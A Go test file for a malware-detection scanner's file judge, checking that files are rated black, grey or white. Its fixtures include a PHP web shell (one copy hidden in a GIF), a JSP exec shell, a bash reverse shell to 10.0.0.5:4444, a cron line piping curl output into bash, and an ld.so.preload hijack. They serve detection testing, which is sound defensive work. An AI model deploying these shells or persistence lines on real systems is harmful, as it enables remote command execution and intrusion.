// SPDX-License-Identifier: Apache-2.0

package file

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/ringwall/ringwall/entity"
	"github.com/ringwall/ringwall/verdict"
)

const shell = "<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>\n"

// eicar is put together so that no scanner takes this source for it.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func mustNew(t testing.TB, cfg Config) *Judge {
	t.Helper()
	j, warnings, err := New(cfg)
	if err != nil || len(warnings) > 0 {
		t.Fatal(err, warnings)
	}
	return j
}

func write(t testing.TB, root, name, text string) string {
	t.Helper()
	full := filepath.Join(root, name)
	if err := os.MkdirAll(filepath.Dir(full), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return "/" + name
}

func TestVerdicts(t *testing.T) {
	root := t.TempDir()
	pkg := func(s string) string { m := md5.Sum([]byte(s)); return hex.EncodeToString(m[:]) }
	write(t, root, "var/lib/dpkg/status", "")
	write(t, root, "var/lib/dpkg/info/shop.md5sums", pkg("<?php echo 1;\n")+"  usr/share/shop/ok.php\n"+pkg("<?php echo 2;\n")+"  usr/share/shop/edited.php\n"+pkg(shell)+"  usr/share/shop/console.php\n"+pkg("\x7fELF1")+"  usr/bin/tool\n")
	j := mustNew(t, Config{Root: root})
	for _, c := range []struct{ name, text, want string }{
		{"var/www/a.php", shell, "BLACK light php php-direct T1505.003"},
		{"var/www/picture.gif", "GIF89a" + shell, "BLACK light php-in-gif php-direct T1505.003"},
		{"var/www/b.php", "<?php echo htmlspecialchars($_POST['c']); ?>\n", "GREY light php"},
		{"usr/share/shop/ok.php", "<?php echo 1;\n", "WHITE known php"},
		{"usr/share/shop/console.php", shell, "WHITE known php"}, // its package vouches for it
		{"usr/share/shop/edited.php", "<?php echo 3;\n", "GREY light php T1554"},
		{"usr/bin/tool", "\x7fELF2", "GREY light elf T1554"},
		{"home/u/eicar.com", eicar, "BLACK light text eicar T1204.002"},
		{"home/u/note.txt", "the text of " + eicar, "GREY light text"},
		{"tmp/x", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n", "BLACK light sh reverse-shell T1059.004"},
		{"etc/cron.d/x", "*/5 * * * * root curl -s http://10.0.0.5/a.sh | bash\n", "BLACK light text persistence T1053.003 T1105"},
		{"etc/cron.d/y", "*/5 * * * * root curl -fsS https://hc.example/ping >/dev/null\n", "GREY light text persistence T1053.003"},
		{"etc/ld.so.preload", "/dev/shm/lib.so\n", "BLACK light text persistence T1574.006"},
		{"empty", "", "GREY light empty"},
	} {
		path := write(t, root, c.name, c.text)
		r, err := j.Path(context.Background(), path)
		if err != nil {
			t.Errorf("%s: %v", path, err)
			continue
		}
		got := strings.Join(append([]string{r.Colour.String(), r.Stage, r.Kind}, append([]string{r.Family}, r.Techniques...)...), " ")
		if strings.Join(strings.Fields(got), " ") != c.want {
			t.Errorf("%s: %s, want %s (%v)", path, got, c.want, r.Evidence)
		}
		f := r.Finding("h", 1, &entity.File{Path: "old", Fs: 7, Inode: 3})
		if (f != nil) != (len(r.Evidence) > 0) || f != nil && (f.Subjects[0].File.Path != path || f.Subjects[0].File.Fs != 7 || f.Title == "") {
			t.Errorf("%s: finding %v", path, f)
		}
	}
}

// TestOpensNothingElse: what is no regular file is an error, told apart, and
// nothing hangs on it.
func TestOpensNothingElse(t *testing.T) {
	root := t.TempDir()
	outside := write(t, filepath.Dir(root), "outside-"+filepath.Base(root), shell)
	write(t, root, "real.php", shell)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(unix.Mkfifo(filepath.Join(root, "fifo"), 0o600))
	must(os.Symlink("real.php", filepath.Join(root, "link")))
	must(os.Symlink("..", filepath.Join(root, "up")))
	must(os.Mkdir(filepath.Join(root, "dir"), 0o700))
	l, err := net.Listen("unix", filepath.Join(root, "socket"))
	must(err)
	defer l.Close()
	j := mustNew(t, Config{Root: root})
	for _, name := range []string{"fifo", "link", "dir", "socket"} {
		if _, err := j.Path(context.Background(), "/"+name); !errors.Is(err, ErrNotRegular) {
			t.Errorf("%s: %v, want ErrNotRegular", name, err)
		}
	}
	if _, err := j.Path(context.Background(), "/up/"+outside); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a link out of the root led to %v", err)
	}
	if failed, _ := j.Unread(); failed != 5 {
		t.Errorf("%d failures counted, want 5", failed)
	}
}

func TestLargeFileIsPartial(t *testing.T) {
	root := t.TempDir()
	j := mustNew(t, Config{Root: root, MaxScan: 1 << 20, MaxHash: 4 << 20})
	for _, c := range []struct {
		size            int64
		hashed, partial bool
	}{{1<<20 - 1, true, false}, {1 << 20, true, false}, {1<<20 + 1, true, true}, {5 << 20, false, true}} {
		path := write(t, root, fmt.Sprint("f", c.size), shell)
		if err := os.Truncate(filepath.Join(root, path), c.size); err != nil {
			t.Fatal(err)
		}
		r, err := j.Path(context.Background(), path)
		if err != nil {
			t.Fatal(err)
		}
		if (r.SHA256 != "") != c.hashed || (r.Partial != "") != c.partial || r.Colour != verdict.Colour_BLACK {
			t.Errorf("%d bytes: hash %q, partial %q, %v", c.size, r.SHA256, r.Partial, r.Colour)
		}
	}
}

// TestFileThatChanges is written to all the time: it is refused, not judged
// by a mixture. Once it rests it is judged.
func TestFileThatChanges(t *testing.T) {
	root := t.TempDir()
	path := write(t, root, "log", strings.Repeat("x", 8<<20))
	j := mustNew(t, Config{Root: root})
	h, err := open(root, path)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	w, err := os.OpenFile(filepath.Join(root, path), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
				if _, err := w.WriteString("y"); err != nil {
					return
				}
				time.Sleep(100 * time.Microsecond)
			}
		}
	}()
	_, err = h.read(context.Background(), nil, 16<<20, 256<<20)
	close(stop)
	wg.Wait()
	w.Close()
	if !errors.Is(err, ErrChanged) {
		t.Errorf("read of a changing file: %v", err)
	}
	if r, err := j.Path(context.Background(), path); err != nil || r.SHA256 == "" {
		t.Errorf("at rest: %v", err)
	}
}

func TestOperatorRules(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "own.yar", `rule own { meta: score = 95 technique = "T1000" family = "mine" description = "own" strings: $a = "needle" condition: $a and extension == ".php" } rule broken { condition: pe.x }`)
	j, warnings, err := New(Config{Rules: dir})
	if err != nil || len(warnings) != 1 || !strings.Contains(warnings[0].Error(), "own.yar:1:") {
		t.Fatal(err, warnings)
	}
	if r := j.Bytes(context.Background(), "x.php", []byte("a needle")); r.Colour != verdict.Colour_BLACK || r.Family != "mine" {
		t.Errorf("own rule: %+v", r)
	}
	if r := j.Bytes(context.Background(), "x.txt", []byte("a needle")); r.Colour != verdict.Colour_GREY {
		t.Errorf("near miss: %+v", r)
	}
}

func TestQueue(t *testing.T) {
	root := t.TempDir()
	j := mustNew(t, Config{Root: root, QueueMax: 50})
	var mu sync.Mutex
	var got []string
	q := NewQueue(j, func(r Result, err error) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, fmt.Sprintf("%s %v %v", r.Path, r.Colour, err != nil))
	})
	for i := range 60 {
		q.Submit(write(t, root, fmt.Sprintf("f%02d.php", i), "<?php echo 1;"), false)
	}
	write(t, root, "live.php", shell)
	q.Submit("/live.php", true)
	q.Submit("/live.php", true)
	q.Submit("/gone.php", true)
	ctx, cancel := context.WithCancel(context.Background())
	ran := make(chan error, 1)
	go func() { ran <- q.Run(ctx) }()
	for deadline := time.Now().Add(20 * time.Second); q.Stats().Judged+q.Stats().Failed < 52 && time.Now().Before(deadline); {
		time.Sleep(time.Millisecond)
	}
	cancel()
	if err := <-ran; !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
	s := q.Stats()
	if s.Judged != 51 || s.Failed != 1 || s.Merged != 1 || s.Dropped != 10 || s.Waiting != 0 || s.Busy == 0 {
		t.Errorf("%+v", s)
	}
	if len(got) < 2 || got[0] != "/live.php BLACK false" || got[1] != "/gone.php GREY true" {
		t.Errorf("what was written just now must come first: %v", got[:min(3, len(got))])
	}
}

// TestQuota compares the bucket with what a share of a core allows.
func TestQuota(t *testing.T) {
	b := bucket{share: 0.1, credit: time.Second, most: time.Second}
	now := time.Unix(0, 0)
	used := time.Duration(0)
	for now.Before(time.Unix(100, 0)) {
		used += 30 * time.Millisecond
		now = now.Add(30 * time.Millisecond)
		now = now.Add(b.spend(30*time.Millisecond, now))
	}
	// A second of credit and a tenth of 100 s.
	if used < 10900*time.Millisecond || used > 11200*time.Millisecond {
		t.Errorf("%v of CPU in 100 s", used)
	}
	// The near miss: within the quota nothing waits.
	b = bucket{share: 0.1, credit: time.Second, most: time.Second}
	for i := range 1000 {
		if w := b.spend(time.Millisecond, time.Unix(0, int64(i)*int64(20*time.Millisecond))); w > 0 {
			t.Fatalf("waited %v at %d", w, i)
		}
	}
}

// TestThisHost judges web pages, scripts and programs that Debian installed
// here: nearly all must be white, and none black even without manifests.
func TestThisHost(t *testing.T) {
	if _, err := os.Stat("/var/lib/dpkg/status"); err != nil {
		t.Skip("no dpkg here: the records of a real host are not read")
	}
	j := mustNew(t, Config{})
	colours := map[verdict.Colour]int{}
	var times []time.Duration
	n := 0
	for _, dir := range []string{"/usr/bin", "/usr/sbin", "/usr/share/perl5", "/usr/lib/python3", "/usr/share/php", "/etc", "/usr/share/doc", "/usr/lib/systemd"} {
		inDir := 0
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || inDir >= 500 {
				return nil
			}
			if info, err := d.Info(); err != nil || info.Size() > 1<<20 {
				return nil
			}
			inDir++
			n++
			start := time.Now()
			r, err := j.Path(context.Background(), path)
			times = append(times, time.Since(start))
			if err != nil {
				if !errors.Is(err, fs.ErrPermission) {
					t.Error(err)
				}
				return nil
			}
			colours[r.Colour]++
			data, err := os.ReadFile(path)
			if err != nil {
				return nil
			}
			if alone := j.Bytes(context.Background(), path, data); alone.Colour == verdict.Colour_BLACK {
				t.Errorf("%s convicted: %v", path, alone.Evidence)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	sort.Slice(times, func(i, k int) bool { return times[i] < times[k] })
	if n > 0 {
		t.Logf("%d files: %v, first look p50 %v p99 %v; held %+v", n, colours, times[n/2], times[n*99/100], j.Known().Stats())
	}
	for _, c := range j.Counts() {
		t.Logf("%+v", c)
	}
}

func FuzzJudge(f *testing.F) {
	j := mustNew(f, Config{Root: f.TempDir()})
	f.Add("a.php", []byte(shell))
	f.Add("x", []byte("\x7fELF"))
	f.Add("b.jsp", []byte("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		r := j.Bytes(context.Background(), name, data)
		if r.Colour == verdict.Colour_WHITE {
			t.Error("unknown content became white")
		}
		r.Finding("h", 1, nil)
	})
}

func BenchmarkPath(b *testing.B) {
	root := b.TempDir()
	page := strings.Repeat("<?php function show($id) { return htmlspecialchars($_GET['id'] . $id); } ?>\n<p>text</p>\n", 40)
	write(b, root, "page.php", page)
	j := mustNew(b, Config{Root: root})
	b.SetBytes(int64(len(page)))
	for b.Loop() {
		if _, err := j.Path(context.Background(), "/page.php"); err != nil {
			b.Fatal(err)
		}
	}
}
